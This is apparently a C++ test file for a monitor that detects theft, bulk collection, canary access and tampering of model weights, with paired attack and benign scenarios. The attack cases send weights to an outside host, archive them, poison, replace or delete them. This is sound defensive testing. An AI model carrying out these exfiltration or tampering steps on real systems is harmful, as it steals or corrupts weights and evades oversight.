// SPDX-License-Identifier: Apache-2.0
// What happens to weights: stolen, collected, changed, or used as they should be.
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>

#include "tests/scenarios/stage.h"

namespace moat::scenarios {
namespace {

using event::FindingKind;

constexpr size_t kMiB = 1 << 20;

// Who may read and write the model, as policies that are only observed say it.
constexpr const char* kReaders = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: readers}
spec:
  mode: observe
  subjects: [{executable: /usr/bin/sha256sum}]
  assets: [{asset: model, read: allow, write: deny}]
)";
constexpr const char* kWriters = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: writers}
spec:
  mode: observe
  subjects: [{executable: /usr/bin/truncate}]
  assets: [{asset: model, read: allow, write: allow}]
)";
constexpr const char* kStorePolicy = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: store}
spec:
  mode: observe
  subjects: [{cgroup: SCOPE}]
  egress:
    default: deny
    allow: [{cidr: 10.66.7.7/32, ports: [443/tcp]}]
)";
constexpr const char* kBackup = R"(
apiVersion: moat/v1
kind: Policy
metadata: {name: backup}
spec:
  mode: observe
  subjects: [{executable: /usr/bin/sha256sum}]
  assets: [{asset: bird, read: allow}]
)";

const Scenario kAll[] = {
    {"steal-and-send", FindingKind::kWeightExfiltration, kAttack, "reads the weights and sends them out",
     [](const Site& site) { ReadFile(site.weights), Send(kOutside, 443, 40 * kMiB); }},
    {"steal-by-a-child", FindingKind::kWeightExfiltration, kAttack, "reads the weights; a child sends them",
     [](const Site& site) { ReadFile(site.weights), InChild([] { Send(kOutside, 443, 40 * kMiB); }); }},
    {"steal-by-a-copy", FindingKind::kWeightExfiltration, kAttack, "copies the weights; another process reads and sends the copy",
     [](const Site& site) {
       Run({"/usr/bin/cp", site.weights, site.scratch + "/innocent.bin"});
       InChild([&] { ReadFile(site.scratch + "/innocent.bin"), Send(kOutside, 443, 40 * kMiB); });
     }},
    {"load-and-report", FindingKind::kWeightExfiltration, kOrdinary,
     "reads the weights and sends a megabyte of metrics to where it sends them always",
     [](const Site& site) { Send(kOutside, 443, 100), ReadFile(site.weights), Send(kOutside, 443, kMiB); }},
    {"load-and-store", FindingKind::kWeightExfiltration, kOrdinary, "reads the weights and sends them where a policy allows",
     [](const Site& site) { ReadFile(site.weights), Send(kStore, 443, 44 * kMiB); }, kStorePolicy},
    {"send-without-reading", FindingKind::kWeightExfiltration, kOrdinary, "sends as much, and has read nothing",
     [](const Site&) { Send(kOutside, 443, 44 * kMiB); }},

    {"undeclared-reader", FindingKind::kWeightCollection, kAttack, "a program that no policy names reads the whole model",
     [](const Site& site) { Run({"/usr/bin/cat", site.weights}); }, kReaders},
    {"archive", FindingKind::kWeightCollection, kAttack, "an archive of the model",
     [](const Site& site) { Run({"/usr/bin/tar", "-cf", site.scratch + "/a.tar", site.weights}); }, kReaders},
    {"declared-reader", FindingKind::kWeightCollection, kOrdinary, "the declared reader reads the whole model",
     [](const Site& site) { Run({"/usr/bin/sha256sum", site.weights}); }, kReaders},
    {"a-glance", FindingKind::kWeightCollection, kOrdinary, "an undeclared program reads the header",
     [](const Site& site) { Run({"/usr/bin/head", "-c", "100000", site.weights}); }, kReaders},

    {"canary-read", FindingKind::kCanaryTouched, kAttack, "reads the canary",
     [](const Site& site) { Run({"/usr/bin/cat", site.canary}); }},
    {"canary-changed", FindingKind::kCanaryTouched, kAttack, "cuts the canary off",
     [](const Site& site) { Check(::truncate(site.canary.c_str(), 10) == 0); }},
    {"canary-listed", FindingKind::kCanaryTouched, kOrdinary, "lists the directory, and asks for sizes",
     [](const Site& site) { Run({"/usr/bin/ls", "-l", site.canary}); }},
    {"canary-backup", FindingKind::kCanaryTouched, kOrdinary, "reads it as the backup, as a policy allows",
     [](const Site& site) { Run({"/usr/bin/sha256sum", site.canary}); }, kBackup},

    {"poison", FindingKind::kWeightTamper, kAttack, "writes into the weights",
     [](const Site& site) {
       const int fd = ::open(site.weights.c_str(), O_WRONLY | O_CLOEXEC);
       Check(fd >= 0 && ::pwrite(fd, "poison", 6, 4096) == 6);
     }},
    {"replace", FindingKind::kWeightTamper, kAttack, "renames another file over the weights",
     [](const Site& site) {
       const std::string other = site.scratch + "/backdoored";
       Run({"/usr/bin/cp", "/bin/true", other});
       Check(::rename(other.c_str(), site.weights.c_str()) == 0);
     }},
    {"remove", FindingKind::kWeightTamper, kAttack, "removes the weights",
     [](const Site& site) { Check(::unlink(site.weights.c_str()) == 0); }},
    {"declared-writer", FindingKind::kWeightTamper, kOrdinary, "the declared writer changes them",
     [](const Site& site) { Run({"/usr/bin/truncate", "-s", "40M", site.weights}); }, kWriters},
    {"download", FindingKind::kWeightTamper, kOrdinary, "fills a new file, and renames it when it is whole",
     [](const Site& site) {
       const std::string part = site.directory + "/new.safetensors.part", whole = site.directory + "/new.safetensors";
       const int fd = ::open(part.c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
       const std::vector<char> block(1 << 20, 'n');
       Check(fd >= 0);
       for (int i = 0; i < 4; ++i) {
         Check(::write(fd, block.data(), block.size()) == static_cast<ssize_t>(block.size()));
       }
       ::close(fd);
       Check(::rename(part.c_str(), whole.c_str()) == 0);
     }},
};

}  // namespace

std::span<const Scenario> Weights() { return kAll; }

}  // namespace moat::scenarios
